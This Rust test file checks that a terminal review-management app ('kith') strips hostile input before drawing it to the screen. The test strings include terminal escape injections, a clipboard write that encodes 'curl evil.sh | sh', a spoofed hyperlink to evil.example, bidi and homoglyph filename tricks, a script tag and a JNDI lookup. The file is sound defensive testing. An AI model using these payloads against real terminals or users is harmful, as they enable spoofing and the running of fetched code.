//! Hostile strings (shared/hostile-strings.md) in every outside field on every screen: no
//! control byte or escape sequence of theirs reaches the terminal, borders stay put, no panic.

#[path = "tui_common/screens.rs"]
mod screens;

use kith::domain::{Author, Item, ItemId, Kind, Outgoing, Platform, Status, Timestamp};
use kith::engine::api::Overview;
use kith::tui::popups::{self, Popup, ReplyForm};
use kith::tui::views::View;
use kith::tui::{App, AppConfig};
use ratatui::backend::{Backend, CrosstermBackend};
use screens::*;

const NOW: Timestamp = Timestamp(1_773_489_600_000);

fn hostile() -> Vec<String> {
    let mut v: Vec<String> = [
        "a\x1b[2J\x1b[Hb",
        "ok\x1b[1A\x1b[2Kfake",
        "\x1b[8mhidden\x1b[0m \x1b[31mRED",
        "\x1b]0;sudo rm -rf ~\x07",
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07",
        "\x1b]52;c;?\x07",
        "\x1b]8;;https://evil.example/\x1b\\https://bank.example\x1b]8;;\x1b\\",
        "\x1b]8;;https://x\x1b[31m rest",
        "\x1bP$qm\x1b\\",
        "\x1b]l;evil\x1b\\\x1b[21t",
        "a\u{9b}2Jb \u{9d}0;t\u{9c}",
        "a\u{85}b",
        "Legit text\rFAKE",
        "admin\x08\x08\x08\x08\x08guest",
        "a\u{0}b",
        "a\x7fb",
        "invoice\u{202E}gnp.exe",
        "user\u{202E} \u{2066}// admin\u{2069} \u{2066}",
        "\u{200F}\u{061C}\u{200E}x",
        "ad\u{200B}min \u{FEFF}admin a\u{2060}b",
        "\u{3164}",
        "\u{115F}",
        "hi\u{E0041}\u{E0042}\u{E0043}",
        "👨‍👩‍👧‍👦 🇺🇸 ⌨️ 🐻‍❄️ 👁️‍🗨️ 🥲🏻 😹",
        "コンピュータ 你好，世界！",
        "ｶﾞｷﾞｸﾞ",
        "pаypal",
        "a\u{2028}b\u{2029}c",
        "pay\tme",
        "x\u{FFFD}",
        "[red]x[/red] {0} %s%n <script>alert(1)</script> ${jndi:x}",
        // Clusters tmux and unicode-width measure differently (issue item 15).
        "🇺🇸🇦 王🇯🇵 a🇺 🇩🇪",
        "Ж🏻 a🏽 👋🏿 王🏻 🏻",
        "ｶﾞ ﾞ ﾊﾟ ｱﾞ ｶﾞｷﾞｸﾞ",
        "क्\u{200D}ष ❤️‍🔥 1️⃣ 王\u{200D}王",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push("\x07".repeat(1000));
    v.push(format!("Z{}", "\u{0301}\u{0316}\u{0344}".repeat(50)));
    v.push(
        String::from_utf8_lossy(&[
            0x7B, 0x22, 0x62, 0x22, 0x3A, 0x22, 0x61, 0xFF, 0x62, 0x22, 0x7D, 0xC0, 0xAF,
        ])
        .into_owned(),
    );
    v.push("[".repeat(200));
    v.push("x".repeat(100_000));
    v.push("\n".repeat(100_000));
    v.push(format!("x{}", "\u{0301}".repeat(10_000)));
    v
}

fn item(id: u64, s: &str, ours: bool) -> Item {
    Item {
        id: ItemId(id),
        // An imported platform kith has no entry for shows the name from the file.
        platform: if id % 3 == 0 {
            Platform::Other
        } else if id % 2 == 0 {
            Platform::Vk
        } else {
            Platform::Google
        },
        account: s.to_string(),
        kind: if ours { Kind::Reply } else { Kind::Review },
        native_id: format!("n{id}"),
        parent_native_id: None,
        root_native_id: None,
        post_native_id: None,
        author: Author {
            id: s.to_string(),
            handle: Some(s.to_string()),
            name: Some(s.to_string()),
            followers: Some(7),
        },
        text: s.to_string(),
        title: Some(s.to_string()),
        lang: Some(s.to_string()),
        rating: Some(3),
        created_at: Timestamp(NOW.0 - 3_600_000),
        received_at: NOW,
        url: Some(format!(
            "https://example.com/{}",
            s.chars().take(30).collect::<String>()
        )),
        status: Status::New,
        snoozed_until: None,
        assignee: Some(s.to_string()),
        tags: vec![s.to_string()],
        priority: 0,
        version: 1,
        outgoing: ours.then(|| Outgoing::Failed {
            reason: s.to_string(),
        }),
        operator: ours.then(|| s.to_string()),
        source: (id % 3 == 0).then(|| s.to_string()),
        rules: Vec::new(),
    }
}

fn app_with(s: &str) -> App {
    kith::i18n::init(kith::i18n::Lang::En);
    let mut replies =
        kith::config::replies::parse(kith::config::replies::DEFAULT_REPLIES, "x").expect("replies");
    replies.push(kith::config::replies::SavedReply {
        name: s.to_string(),
        text: s.to_string(),
        lang: None,
    });
    let cfg = AppConfig {
        operator: "anna".into(),
        replies,
        ..AppConfig::default()
    };
    let mut app = App::new(cfg, NOW);
    app.overview = Overview {
        total: 3,
        by_status: vec![(Status::New, 3)],
        by_platform: vec![(Platform::Vk, 2)],
        new_by_platform: vec![(Platform::Vk, 2)],
        by_account: vec![
            (s.to_string(), Platform::Vk, 2),
            ("plain".into(), Platform::Google, 1),
        ],
        by_kind: vec![(Kind::Review, 3)],
        demo: true,
        quarantined: 0,
        by_assignee: vec![(s.to_string(), 1)],
        unassigned: 2,
        waiting_by_kind: vec![(Kind::Review, 3)],
    };
    app.views = View::list(&app.overview, s, &[]);
    app.list.rows = vec![item(3, s, false), item(2, "placeholder", false)];
    app.list.loaded = true;
    app.thread.id = Some(ItemId(3));
    app.thread.items = vec![item(3, s, false), item(5, s, true)];
    app.search = s.chars().take(200).collect();
    app.error(s);
    app
}

/// Screens to draw for one app: (name, set-up).
fn screens(app: &mut App, s: &str, i: usize) {
    let item = app.list.rows[0].clone();
    let mut editor = kith::tui::editor::Editor::default();
    editor.insert(&s.chars().take(2000).collect::<String>());
    let mut picker = popups::picker::Picker::default();
    picker.input.insert(&s.chars().take(50).collect::<String>());
    let mut snooze =
        popups::snooze::SnoozeForm::new(vec!["1h".into(), s.chars().take(40).collect()]);
    snooze.input.insert(&s.chars().take(50).collect::<String>());
    let mut filter = popups::filter::FilterForm::default();
    filter.lang.insert(&s.chars().take(50).collect::<String>());
    let mut palette = popups::palette::Palette::default();
    palette
        .input
        .insert(&s.chars().take(50).collect::<String>());
    let states: Vec<(&str, Option<Popup>, bool)> = vec![
        ("main", None, false),
        ("zoom", None, true),
        (
            "help",
            Some(Popup::Help {
                scroll: 0,
                ctxs: vec![kith::config::keymap::Context::Normal],
            }),
            false,
        ),
        ("palette", Some(Popup::Palette(palette)), false),
        ("filter", Some(Popup::Filter(filter)), false),
        ("snooze", Some(Popup::Snooze(snooze)), false),
        (
            "reply",
            Some(Popup::Reply(Box::new(ReplyForm {
                item: item.clone(),
                editor: editor.clone(),
                picker: None,
                private: false,
            }))),
            false,
        ),
        (
            "picker",
            Some(Popup::Reply(Box::new(ReplyForm {
                item,
                editor,
                picker: Some(picker),
                private: false,
            }))),
            false,
        ),
    ];
    for (name, popup, zoom) in states {
        app.popup = popup;
        app.zoom = zoom;
        for (w, h) in [(120, 36), (80, 24)] {
            let (_, buf) = render(app, w, h);
            let side = if app.popup.is_none() {
                side_width(w)
            } else {
                0
            };
            assert_borders_aligned(&buf, side);
            assert_terminal_widths(&buf, &format!("string #{i} on {name} at {w}x{h}"));
            let mut bytes = Vec::<u8>::new();
            {
                let mut out = CrosstermBackend::new(&mut bytes);
                out.draw(
                    buf.content
                        .iter()
                        .enumerate()
                        .map(|(k, c)| ((k as u16) % w, (k as u16) / w, c)),
                )
                .expect("draw");
                Backend::flush(&mut out).expect("flush");
            }
            assert!(bytes.len() > 1000, "{name}: nothing drawn");
            check_bytes(&bytes, &format!("string #{i} on {name} at {w}x{h}"));
        }
    }
}

/// Removes the sequences ratatui's crossterm backend itself writes: cursor moves
/// (`ESC [ row ; col H`) and colours/attributes (`ESC [ ... m`). Anything else is a leak.
fn strip_backend_sequences(b: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == 0x1b && b.get(i + 1) == Some(&b'[') {
            let mut j = i + 2;
            while j < b.len() && (b[j].is_ascii_digit() || b[j] == b';') {
                j += 1;
            }
            let params = j > i + 2;
            if j < b.len() && ((b[j] == b'H' && params) || b[j] == b'm') {
                i = j + 1;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

fn check_bytes(bytes: &[u8], ctx: &str) {
    let rest = strip_backend_sequences(bytes);
    let text = std::str::from_utf8(&rest).unwrap_or_else(|e| panic!("{ctx}: not UTF-8: {e}"));
    for c in text.chars() {
        let bad = (c.is_control() && c != '\r' && c != '\n') || ('\u{80}'..='\u{9f}').contains(&c);
        assert!(!bad, "{ctx}: control {c:?} reached the terminal");
        assert!(
            !matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{E0000}'..='\u{E007F}'),
            "{ctx}: {c:?} reached the terminal"
        );
    }
}

/// No cell holds a cluster whose width terminals and ratatui disagree on (measured in tmux by
/// tests/tui_screen_tmux.rs): regional indicators, skin-tone modifiers, VS16, halfwidth sound
/// marks, or a ZWJ after anything but a wide emoji. ratatui would lay such a cell out at one
/// width, the terminal draw it at another, and later frames leave its remains on screen.
fn assert_terminal_widths(buf: &ratatui::buffer::Buffer, ctx: &str) {
    for (n, cell) in buf.content.iter().enumerate() {
        let row = n / buf.area.width as usize;
        let sym = cell.symbol();
        let odd = sym.chars().any(|c| {
            matches!(c, '\u{1F1E6}'..='\u{1F1FF}' | '\u{1F3FB}'..='\u{1F3FF}' | '\u{FE0F}' | '\u{FF9E}' | '\u{FF9F}')
        });
        let joined = sym.char_indices().any(|(i, c)| {
            c == '\u{200D}'
                && !sym[..i].chars().last().is_some_and(|p| {
                    unicode_width::UnicodeWidthChar::width(p) == Some(2)
                        && ('\u{1F000}'..='\u{1FAFF}').contains(&p)
                })
        });
        assert!(
            !odd && !joined,
            "{ctx}: cell {sym:?} in row {row} is measured differently by terminals: {:?}",
            buf.content[row * buf.area.width as usize..(row + 1) * buf.area.width as usize]
                .iter()
                .map(|c| c.symbol())
                .collect::<String>()
        );
    }
}

#[test]
fn hostile_strings_on_every_screen() {
    for (i, s) in hostile().iter().enumerate() {
        let mut app = app_with(s);
        screens(&mut app, s, i + 1);
    }
}

#[test]
fn stripping_catches_a_raw_escape() {
    // The check can fail: a raw clear-screen or OSC survives stripping.
    let strip = |b: &[u8]| strip_backend_sequences(b);
    assert_eq!(strip(b"\x1b[3;4Hx\x1b[38;5;1my"), b"xy");
    assert!(strip(b"a\x1b[2Jb").contains(&0x1b));
    assert!(strip(b"a\x1b[Hb").contains(&0x1b));
    assert!(std::panic::catch_unwind(|| check_bytes(b"\x1b]0;t\x07", "t")).is_err());
    assert!(std::panic::catch_unwind(|| check_bytes("a\u{9b}b".as_bytes(), "t")).is_err());
}
